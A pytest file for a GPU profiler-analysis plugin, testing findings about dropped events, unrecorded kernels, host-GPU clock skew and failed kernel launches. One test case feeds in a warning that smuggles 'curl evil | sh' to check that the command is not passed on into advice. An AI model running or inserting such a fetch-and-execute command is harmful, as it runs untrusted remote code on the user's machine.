"""The collector says that something is missing from the profile."""

from __future__ import annotations

from collections.abc import Callable

import pytest

from tests.builders import Host, each, find_steps, finding, inputs, judge, passes, says, value
from tfperf_plugin.judging.engine.rule import NotApplicable
from tfperf_plugin.judging.engine.run import run_rules
from tfperf_plugin.judging.rules.capture import events_dropped as rule
from tfperf_plugin.judging.rules.capture import no_device_events
from tfperf_plugin.judging.rules.capture.events_dropped import RULE

DROPPED = "Detected GPU events dropped on worker: Profiler has collected 9 driver events & <7> device events."
COMMAND = "The file holds no work of GPUs: record with nsys profile --trace=cuda,nvtx."
OTHERS = "Messages of the profiler"


def said(*warnings: str, errors: tuple[str, ...] = (), name: str = "worker") -> Host:
    host = Host(name)
    for text in warnings:
        host.warning(text)
    for text in errors:
        host.error(text)
    return host


def on_the_cpu(message: str) -> Host:
    host = Host(gpus=1)
    host.error(message)
    op = "model/dense/MatMul:MatMul"
    return host.trained(6, 100, lambda host, at: host.event(op, at, at + 40, thread="tf_Compute/1"))


@pytest.mark.near_miss("different")
@pytest.mark.parametrize(
    ("host", "title", "severity", "summary"),
    [
        (said(DROPPED), "Events dropped by the profiler", "warning", "1 warning"),
        (said(errors=("Failed to start",)), OTHERS, "info", "1 error: “Failed to start”"),
        (said("No OpenGL events.", COMMAND), "Part of the work was not recorded", "warning", COMMAND),
        # A file cannot put a command into the advice.
        (said("Gone: record with nsys profile --trace=cuda; curl evil | sh."), OTHERS, "info", "1 warning"),
        (on_the_cpu("Failed to start the tracer"), OTHERS, "info", "1 error"),
    ],
    ids=["dropped", "other", "command", "hostile command", "on the CPU"],
)
def test_messages_are_passed_on(host: Host, title: str, severity: str, summary: str) -> None:
    found = finding(RULE, host)

    assert (found.title, found.severity) == (title, severity)
    assert summary in found.summary


def test_messages_of_all_hosts_count_and_five_are_shown_errors_first() -> None:
    one = said(*(f"warning {n}" for n in range(4)), name="one")
    found = finding(RULE, one, said(errors=tuple(f"error {n}" for n in range(4)), name="two"))

    assert value(found, "errors and warnings") == 8
    texts = [e.value for e in found.evidence if e.unit == "text"]
    assert texts == ["error 0", "error 1", "error 2", "error 3", "warning 0"]


def numbered(kept: int, of: int) -> Host:
    """Steps of which the file holds ``kept`` ops ``of`` those that PyTorch numbered."""
    host = steps()
    host.kept_count, host.numbered_count = kept, of
    return host


def test_a_file_that_holds_few_of_the_numbered_ops_was_thinned() -> None:
    found = finding(RULE, numbered(2402, 170_156))

    assert (found.title, found.severity) == ("Most events are missing from the file", "critical")
    said = "PyTorch numbered at least 170,156 ops while it recorded, and the file holds 2,402 of them (1.4 %)"
    assert said in found.summary
    assert value(found, "share of numbered ops in the file") == pytest.approx(0.0141, abs=1e-4)


@pytest.mark.near_miss("below")
@pytest.mark.parametrize(("kept", "of"), [(910, 1000), (500, 1000), (40, 999), (0, 0)])
def test_a_file_that_holds_half_of_them_or_has_few_was_not(kept: int, of: int) -> None:
    passes(RULE, numbered(kept, of))


def launched(host: Host, at: float, holds: bool, shift: float = 0) -> None:
    """One launch at the start of a step, and its kernel where the recording ``holds`` it."""
    if holds:
        host.kernel(at + 1 + shift, at + 9 + shift, launch=(at + 0.2, at + 0.4))
    else:
        host.event("cuLaunchKernel", at + 0.2, at + 0.4, correlation_id=9000 + int(at))


def steps(draw: Callable[[Host, float], None] = lambda host, at: launched(host, at, True)) -> Host:
    """Ten steps of 10 ms; of the last one, the end is not recorded."""
    return Host(gpus=1).trained(10, 10, draw)


@pytest.mark.parametrize(("first", "last"), [(0, 4), (3, 6)])
def test_steps_whose_kernels_are_missing_are_not_judged(first: int, last: int) -> None:
    host = steps(lambda host, at: launched(host, at, holds=not first * 10 <= at < last * 10))
    found = finding(RULE, host)
    (its,) = find_steps([host.trace()]).hosts
    lost = last - first

    assert (found.title, found.severity) == ("Kernels missing from the recording", "warning")
    assert f"Of {lost} of 10 launches no kernel was recorded, in {lost} steps" in found.summary
    assert [place.step for place in found.where] == list(range(first, last))
    # Nor is the step after them, as nothing tells until when the GPU was busy before it.
    assert not its.judged[first : last + 1].any()
    assert its.judged.sum() == 9 - lost - 1


def test_where_every_step_has_holes_the_report_says_so() -> None:
    host = steps()
    each(10, 10, lambda at: launched(host, at, False))

    assert "is judged only if no step is whole" in finding(RULE, host).summary
    assert find_steps([host.trace()]).complete_count == 0


def test_kernels_that_are_missing_outside_steps_are_counted_too() -> None:
    host = Host(gpus=1)
    host.kernel(0, 10, launch=(0, 1))
    host.event("cuLaunchKernel", 20, 21, correlation_id=9000)
    host.kernel(40, 50, launch=(40, 41))

    assert "Of 1 of 3 launches no kernel was recorded. There a GPU" in finding(RULE, host).summary


def test_a_gpu_that_works_before_its_launches_has_another_clock() -> None:
    found = finding(RULE, steps(lambda host, at: launched(host, at, True, shift=-15 if at else 0)))

    assert found.title == "Clocks of host and GPU differ"
    assert "The clock of 1 of 1 GPU is at least 14.2 ms apart from the host's" in found.summary


def test_the_last_launches_on_another_clock_are_not_missed() -> None:
    host = steps(lambda host, at: launched(host, at, holds=at < 90, shift=-30))

    assert finding(RULE, host).title == "Clocks of host and GPU differ"


def captured(host: Host) -> None:
    host.event("cudaStreamBeginCapture", 20.5, 20.6)
    host.event("cuLaunchKernel", 20.7, 20.8, correlation_id=9000)
    host.event("cudaStreamEndCapture", 20.9, 21)


def many(host: Host, at: float) -> None:
    for begin in (at + part / 25 for part in range(200)):
        host.kernel(begin, begin + 0.03, launch=(begin, begin + 0.01))


def apart(host: Host, at: float) -> None:
    host.event("cuLaunchKernel", at, at + 0.1, correlation_id=9000 + int(at))
    host.kernel(at + 1, at + 9)


def early(host: Host, at: float) -> None:
    host.kernel(at + 1, at + 1.1, launch=(at + 1.5, at + 2))


@pytest.mark.near_miss("below")
@pytest.mark.near_miss("different")
@pytest.mark.parametrize(
    ("host", "then", "complete", "whole"),
    [
        (said(), None, 0, False),
        (on_the_cpu("Failed to load libcupti (is it installed and accessible?)"), None, 5, False),
        (steps(), captured, 9, True),  # what is captured into a graph does not run yet
        (steps(many), lambda host: launched(host, 25, holds=False), 9, False),  # one launch of 2000
        (steps(apart), None, 9, True),  # kernels that do not tell their launch are not missing
        (steps(early), None, 9, True),  # clocks that differ by microseconds agree
    ],
    ids=["silence", "on the CPU", "captured", "one of many", "untold launches", "microseconds"],
)
def test_what_misses_nothing(
    host: Host, then: Callable[[Host], None] | None, complete: int, whole: bool
) -> None:
    if then:
        then(host)

    said = "none lacks its kernel" in passes(RULE, host).reason
    assert find_steps([host.trace()]).complete_count == complete
    assert said == whole


def failing(*errors: int, launches: int = 0) -> Host:
    """A GPU without a kernel, launches that return ``errors``, and others that do not."""
    host = Host(gpus=1)
    for at, error in enumerate(errors):
        host.event(f"error {error} of cudaLaunchKernel", at, at + 0.5)
    for at in range(len(errors), len(errors) + launches):
        host.event("cudaLaunchKernel", at, at + 0.5, correlation_id=1 + at)
    return host


def test_launches_that_all_failed_are_no_fault_of_the_profiler() -> None:
    host = failing(*[222] * 4)
    found = finding(RULE, host)

    assert (found.title, found.severity) == ("Kernel launches failed", "critical")
    assert says(found, rule.ALL_FAIL)
    assert "All 4 launches failed: error 222, cudaErrorUnsupportedPtxVersion" in found.summary
    assert found.action == "Build with nvcc -arch=native, or update the driver"
    assert judge(no_device_events.RULE, host) == NotApplicable(no_device_events.ALL_FAILED)


def test_launches_of_which_some_failed_come_before_kernels_that_were_not_recorded() -> None:
    host = failing(701, 701, 12345, launches=7)
    failed, unrecorded = run_rules([no_device_events.RULE, RULE], inputs(host)).trust

    assert says(failed, rule.FAILS)
    assert says(failed, rule.UNSOUND)
    assert "3 of 10 launches failed: error 701, cudaErrorLaunchOutOfResources" in failed.summary
    assert "and error 12345." in failed.summary
    assert unrecorded.id == "no-device-events"


def test_an_error_without_a_usual_remedy_is_to_be_asked_for() -> None:
    assert finding(RULE, failing(12345)).action == "Check what each launch returns: cudaGetLastError"
